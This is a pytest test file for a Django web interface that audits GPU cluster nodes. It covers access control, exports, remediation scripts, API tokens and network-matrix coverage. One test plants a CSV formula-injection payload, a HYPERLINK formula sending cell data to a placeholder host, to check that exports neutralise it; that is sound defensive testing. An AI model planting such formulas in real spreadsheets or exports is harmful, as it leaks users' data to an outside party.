"""The web UI without a browser: access control on every page, content, exports, and constant query counts."""

import json
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from checks.choices import NetworkState, RunState
from checks.models import Audit, CheckResult, NetworkPath, NodeAudit
from inventory.models import Accelerator, Node
from tests.factories import ClusterFactory, NodeFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def audited():
    """A cluster with two finished audits: time.ntp broke and a path closed between them."""
    cluster = ClusterFactory(name="lab")
    server = NodeFactory(cluster=cluster, name="srv", role="server")
    worker = NodeFactory(cluster=cluster, name="w1", last_audit_status="fail")
    Accelerator.objects.create(node=worker, vendor="nvidia", index=0, model="NVIDIA H100 80GB HBM3", memory_mib=81559)
    audits = []
    for i, (ntp, path) in enumerate([("pass", "pass"), ("fail", "fail")]):
        audit = Audit.objects.create(
            cluster=cluster,
            profile=cluster.profile,
            profile_key="gpustack-2.0",
            state=RunState.DONE,
            status=ntp,
            started=timezone.now(),
            finished=timezone.now(),
        )
        na = NodeAudit.objects.create(
            audit=audit,
            node=worker,
            state=RunState.DONE,
            status=ntp,
            finished=timezone.now(),
            facts={
                "os": {"id": "ubuntu", "pretty_name": "Ubuntu 22.04.4 LTS"},
                "accelerators": [{"vendor": "nvidia", "index": 0, "model": "H100"}] if i == 0 else [],
            },
        )
        NodeAudit.objects.create(audit=audit, node=server, state=RunState.DONE, status="pass", finished=timezone.now())
        CheckResult.objects.create(
            node_audit=na,
            check_id="time.ntp",
            status=ntp,
            summary=f"ntp {ntp}",
            evidence="none of chronyd found",
            position=3,
            remediation="" if ntp == "pass" else "Install chrony and start it at boot.",
            commands=[] if ntp == "pass" else ["apt-get install -y chrony"],
        )
        NetworkPath.objects.create(
            audit=audit,
            check_id="network.server_to_worker",
            source=server,
            destination=worker,
            status=path,
            summary=f"srv -> w1: {'10150 timed out' if path == 'fail' else 'ok'}",
            outcomes={"10150": ["timed out" if path == "fail" else "connected", ""]},
        )
        audits.append(audit)
    worker.last_facts = {"os": {"id": "ubuntu", "pretty_name": "Ubuntu 22.04.4 LTS"}}
    worker.save()
    return {"cluster": cluster, "server": server, "worker": worker, "audits": audits}


def _pages(data):
    worker, audits = data["worker"], data["audits"]
    path = NetworkPath.objects.filter(audit=audits[1]).first()
    return [
        "/",
        "/clusters/lab/",
        "/nodes/",
        f"/nodes/{worker.pk}/",
        f"/nodes/{worker.pk}/remediation.sh",
        "/clusters/lab/diff/",
        "/clusters/lab/matrix/",
        f"/audits/{audits[1].pk}/progress/",
        f"/paths/{path.pk}/",
        "/account/tokens/",
    ]


def test_every_page_sends_anonymous_users_to_login(client, audited):
    for url in _pages(audited):
        response = client.get(url)
        assert response.status_code == 302 and response["Location"].startswith("/login/?next="), url


def test_pages_refuse_users_without_view_permission(client, django_user_model, audited):
    client.force_login(django_user_model.objects.create_user("nobody", password="x"))
    for url in _pages(audited)[:-1]:
        assert client.get(url).status_code == 403, url
    assert client.get("/account/tokens/").status_code == 200  # everyone manages their own tokens


def test_missing_objects_are_404(admin_client):
    for url in [
        "/clusters/nope/",
        "/nodes/999999/",
        "/paths/999999/",
        "/audits/999999/progress/",
        "/clusters/nope/matrix/",
        "/nodes/999999/remediation.sh",
    ]:
        assert admin_client.get(url).status_code == 404, url


def test_dashboard_content(admin_client, audited):
    body = admin_client.get("/clusters/lab/").content.decode()
    assert "Workers ready" in body and "/clusters/lab/checks/time.ntp/" in body
    trend = json.loads(body.split('<script id="trend-data" type="application/json">')[1].split("</script>")[0])
    assert [t["ready"] for t in trend] == [2, 1] and "/static/vendor/chart-4.5.1.umd.min.js" in body
    assert "cdn" not in body.lower()


def test_not_ready_link_lists_failing_and_unreachable_workers(admin_client, audited):
    # given: besides the failing w1, a worker that could not be reached (error) and one never audited
    NodeFactory(cluster=audited["worker"].cluster, name="w-unreachable", last_audit_status="error")
    NodeFactory(cluster=audited["worker"].cluster, name="w-new")
    dashboard = admin_client.get("/clusters/lab/").content.decode()
    link = "/nodes/?cluster=lab&amp;role=worker&amp;readiness=not_ready"
    assert f'<a href="{link}">2 not ready</a>' in dashboard
    # when: the operator follows it
    listed = admin_client.get(link.replace("&amp;", "&")).content.decode()
    # then: both nodes that are not ready, and nothing else
    assert ">w1<" in listed and ">w-unreachable<" in listed and ">w-new<" not in listed and ">srv<" not in listed
    unknown = admin_client.get("/nodes/", {"cluster": "lab", "readiness": "unknown"}).content.decode()
    assert ">w-new<" in unknown and ">w1<" not in unknown


def test_node_list_filters_and_exports(admin_client, audited):
    failing = admin_client.get("/nodes/", {"cluster": "lab", "role": "worker", "status": "fail"}).content.decode()
    assert ">w1<" in failing and ">srv<" not in failing and "Not ready" in failing
    by_check = admin_client.get("/nodes/", {"failing_check": "time.ntp"}).content.decode()
    assert ">w1<" in by_check and ">srv<" not in by_check
    exported = json.loads(admin_client.get("/nodes/", {"vendor": "nvidia", "export": "json"}).content)
    assert [row["name"] for row in exported] == ["w1"]
    csv_text = admin_client.get("/nodes/", {"cluster": "lab", "export": "csv"}).content.decode()
    assert csv_text.splitlines()[0].startswith("cluster,name,address") and len(csv_text.splitlines()) == 3


def test_node_page_and_script(admin_client, audited):
    worker = audited["worker"]
    body = admin_client.get(f"/nodes/{worker.pk}/").content.decode()
    assert "NVIDIA H100 80GB HBM3" in body and "time.ntp" in body and "<details><summary>Evidence</summary>" in body
    assert 'data-copy="' in body and "compare with latest" in body
    script = admin_client.get(f"/nodes/{worker.pk}/remediation.sh").content.decode()
    assert script.startswith("#!/bin/sh") and "\n  apt-get install -y chrony\n" in script


def test_diff_shows_changed_check_device_and_closed_path(admin_client, audited):
    old, new = audited["audits"]
    body = admin_client.get("/clusters/lab/diff/", {"a": old.pk, "b": new.pk}).content.decode()
    assert "<code>time.ntp</code>" in body and "device gone" in body and "closed (pass → fail)" in body


def test_matrix_cell_and_path_detail(admin_client, audited):
    body = admin_client.get("/clusters/lab/matrix/").content.decode()
    assert 'class="cell-fail" title="10150 timed out"' in body
    path = NetworkPath.objects.get(audit=audited["audits"][1])
    assert "10150" in admin_client.get(f"/paths/{path.pk}/").content.decode()


def _queries(client, url, **params) -> int:
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url, params)
    assert response.status_code == 200
    return len(captured)


@pytest.mark.parametrize("url", ["/nodes/", "/clusters/big/"])
def test_query_count_is_constant_for_10_and_2000_nodes(admin_client, url):
    # given
    cluster = ClusterFactory(name="big")
    Node.objects.bulk_create(
        Node(
            cluster=cluster,
            name=f"n{i:04d}",
            address=f"192.0.2.{i % 250 + 1}",
            last_audit_status="fail" if i % 3 else "pass",
        )
        for i in range(10)
    )
    small = _queries(admin_client, url, cluster="big")
    # when
    Node.objects.bulk_create(
        Node(cluster=cluster, name=f"m{i:04d}", address=f"192.0.2.{i % 250 + 1}", last_audit_status="pass")
        for i in range(1990)
    )
    nodes = list(Node.objects.filter(cluster=cluster)[:50])
    Accelerator.objects.bulk_create(Accelerator(node=n, vendor="nvidia", index=0, model="A100") for n in nodes)
    large = _queries(admin_client, url, cluster="big")
    # then
    assert Node.objects.filter(cluster=cluster).count() == 2000
    assert small == large


def test_account_page_creates_a_token_once_and_revokes_only_own(client, django_user_model):
    from portal.models import ApiToken
    from portal.tokens import api_token_authenticate, api_token_create

    user = django_user_model.objects.create_user("alice", password="x")
    other = django_user_model.objects.create_user("bob", password="x")
    foreign, foreign_token = api_token_create(user=other, name="bob's")
    client.force_login(user)
    created = client.post("/account/tokens/", {"action": "create", "name": "ci", "days": "30"})
    token = re.search(r'id="new-token"[^>]* value="([^"]+)"', created.content.decode()).group(1)
    assert 'data-copy="new-token"' in created.content.decode()  # with its Copy button
    assert api_token_authenticate(token) == user and created["Cache-Control"] == "no-store"
    assert token not in client.get("/account/tokens/").content.decode()  # shown once
    mine = ApiToken.objects.get(user=user)
    assert client.post("/account/tokens/", {"action": "revoke", "token": foreign.pk}).status_code == 404
    # revoking asks first (a page, no JavaScript needed), and asking revokes nothing
    asked = client.get(f"/account/tokens/?revoke={mine.pk}").content.decode()
    assert "Revoke the token “ci”" in asked and 'value="revoke"' in asked
    assert api_token_authenticate(token) == user
    assert client.get(f"/account/tokens/?revoke={foreign.pk}").status_code == 404
    client.post("/account/tokens/", {"action": "revoke", "token": mine.pk})
    assert api_token_authenticate(token) is None
    assert ApiToken.objects.get(pk=foreign.pk).revoked is None and api_token_authenticate(foreign_token) == other


def test_exports_neutralise_formula_cells(admin_client, audited):
    # given: a node whose os-release PRETTY_NAME is a spreadsheet formula
    worker = audited["worker"]
    worker.last_facts = {"os": {"pretty_name": '=HYPERLINK("http://x.invalid/?"&A1,"Ubuntu")'}}
    worker.save(update_fields=["last_facts"])
    # when
    csv_body = admin_client.get("/nodes/", {"export": "csv"}).content.decode()
    rows = json.loads(admin_client.get("/nodes/", {"export": "json"}).content)
    # then: the cell starts with a quote, so a spreadsheet shows it as text
    assert "'=HYPERLINK(" in csv_body and ",=HYPERLINK(" not in csv_body and '"=HYPERLINK(' not in csv_body
    assert next(r for r in rows if r["name"] == "w1")["os"].startswith("'=HYPERLINK(")


def test_node_page_shows_commands_apart_from_the_explanation(admin_client, audited):
    # when
    body = admin_client.get(f"/nodes/{audited['worker'].pk}/").content.decode()
    # then: the explanation is prose; the copyable block holds only the command
    assert "<strong>What to do:</strong> Install chrony and start it at boot.</p>" in body
    block = body.split('<pre class="cmd" id="', 1)[1].split(">", 1)[1].split("</pre>", 1)[0]
    assert block == "apt-get install -y chrony"
    assert 'aria-label="Copy the commands for time.ntp"' in body


def test_dashboard_counts_each_nodes_own_status_in_its_latest_audit(admin_client, audited):
    # given: w1's recorded status is stale (fail), but its latest finished audit ended pass, with one check failing
    # in the previous audit only; a third audit is still running and counts for nothing yet
    worker, cluster = audited["worker"], audited["worker"].cluster
    audit = Audit.objects.create(
        cluster=cluster, profile=cluster.profile, state=RunState.DONE, status="pass", started=timezone.now()
    )
    na = NodeAudit.objects.create(audit=audit, node=worker, state=RunState.DONE, status="warn", finished=timezone.now())
    CheckResult.objects.create(node_audit=na, check_id="time.ntp", status="warn", summary="ntp warn", position=3)
    running = Audit.objects.create(
        cluster=cluster, profile=cluster.profile, state=RunState.RUNNING, started=timezone.now()
    )
    NodeAudit.objects.create(audit=running, node=worker, state=RunState.DONE, status="error", finished=timezone.now())
    # when
    body = admin_client.get("/clusters/lab/").content.decode()
    # then
    assert '<div class="muted">Workers ready</div><div class="big">1 / 1</div>' in body
    assert "failing_check=time.ntp" not in body and "Nothing fails." in body


def test_profile_admin_page_says_what_it_follows_and_what_moved(admin_client):
    # given
    from inventory.models import RequirementProfile

    v23 = RequirementProfile.objects.get(key="gpustack-2.3")
    v20 = RequirementProfile.objects.get(key="gpustack-2.0")
    # when
    body = admin_client.get(f"/admin/inventory/requirementprofile/{v23.pk}/change/").content.decode()
    baseline = admin_client.get(f"/admin/inventory/requirementprofile/{v20.pk}/change/").content.decode()
    # then
    assert "Follows GPUStack <strong>v2.3.0</strong>" in body and "<code>63a03ba</code>" in body
    assert "Against <code>gpustack-2.0</code>" in body
    assert '<li id="ports-added">Ports added: server 30079;' in body
    assert "server 13000, 19090 (while built-in observability is on)" in body
    assert '<li id="ports-removed">Ports removed: worker 40064-40095;' in body
    assert "NVIDIA GPU: CUDA &gt;= 12.8 (new); NVIDIA GPU: driver &gt;= 570 (new)" in body
    assert "The baseline the other profiles are compared with." in baseline and "ports-added" not in baseline


def test_dashboard_says_which_release_the_profile_follows_and_what_moved(admin_client):
    # given
    from inventory.models import RequirementProfile

    profile = RequirementProfile.objects.get(key="gpustack-2.2")
    ClusterFactory(name="upgraded", profile=profile, proxy_mode="tunnel")
    profile.gpustack_commit = "<b>x</b>"  # operator-edited text is escaped like any other
    profile.save()
    # when
    body = admin_client.get("/clusters/upgraded/").content.decode()
    # then
    assert "Profile <code>gpustack-2.2</code>: GPUStack v2.2.3 · 8 port changes, 5 new minimums" in body
    assert "Follows GPUStack <strong>v2.2.3</strong>" in body and "&lt;b&gt;x&lt;/b&gt;" in body
    assert "<b>x" not in body
    assert "Ports removed: worker 40064-40095; worker 6379, 8265, 10001-19999, 52365" in body
    assert "proxy mode tunnel" in body


def _sampled_audits(cluster, nodes, rounds: int, *, k: int) -> list:
    """`rounds` finished audits of `cluster`, each recording the worker paths its sampled plan chose, all passing."""
    from checks.connectivity import W2W, MatrixNode, Sampling, peer_pairs

    peers = [MatrixNode(n.name, "worker", n.address, order=n.pk) for n in nodes]
    by_name = {n.name: n for n in nodes}
    audits = []
    for n in range(rounds):
        audit = Audit.objects.create(
            cluster=cluster,
            profile=cluster.profile,
            state=RunState.DONE,
            network_state=NetworkState.DONE,
            started=timezone.now(),
            finished=timezone.now(),
        )
        NodeAudit.objects.bulk_create(NodeAudit(audit=audit, node=node, state=RunState.DONE) for node in nodes)
        NetworkPath.objects.bulk_create(
            NetworkPath(audit=audit, check_id=W2W, source=by_name[s.name], destination=by_name[d.name], status="pass")
            for s, d in peer_pairs(peers, Sampling(plan="sampled", peers=k, round=n))
        )
        audits.append(audit)
    return audits


def test_matrix_says_how_much_of_the_worker_mesh_is_proven(admin_client):
    # given 7 workers on a sampled plan with k=2: 42 ordered pairs, every one covered in ceil(6/2) = 3 audits
    cluster = ClusterFactory(name="racks", connectivity_plan="sampled", sampled_peers=2)
    nodes = [NodeFactory(cluster=cluster, name=f"w{i}", address=f"10.0.0.{i + 1}") for i in range(7)]
    audits = _sampled_audits(cluster, nodes, 3, k=2)
    # when the first audit's matrix is read
    first = admin_client.get(f"/clusters/racks/matrix/?audit={audits[0].pk}").content.decode()
    # then it proved 14 of 42 pairs, and 14 in its window so far (one audit)
    assert "<strong>14 of 42</strong> worker pairs proven in this audit" in first
    assert "14 of 42 proven within the last 1 audit (the plan covers every pair in 3 audits)" in first
    # and after the third audit every pair was proven within the last 3
    latest = admin_client.get("/clusters/racks/matrix/").content.decode()
    assert "42 of 42 proven within the last 3 audits (the plan covers every pair in 3 audits)" in latest
    # and a failing path is not counted as proven
    NetworkPath.objects.filter(audit=audits[2]).filter(
        pk=NetworkPath.objects.filter(audit=audits[2]).first().pk
    ).update(status="fail")
    after = admin_client.get("/clusters/racks/matrix/").content.decode()
    assert "<strong>13 of 42</strong> worker pairs proven in this audit (14 tested)" in after
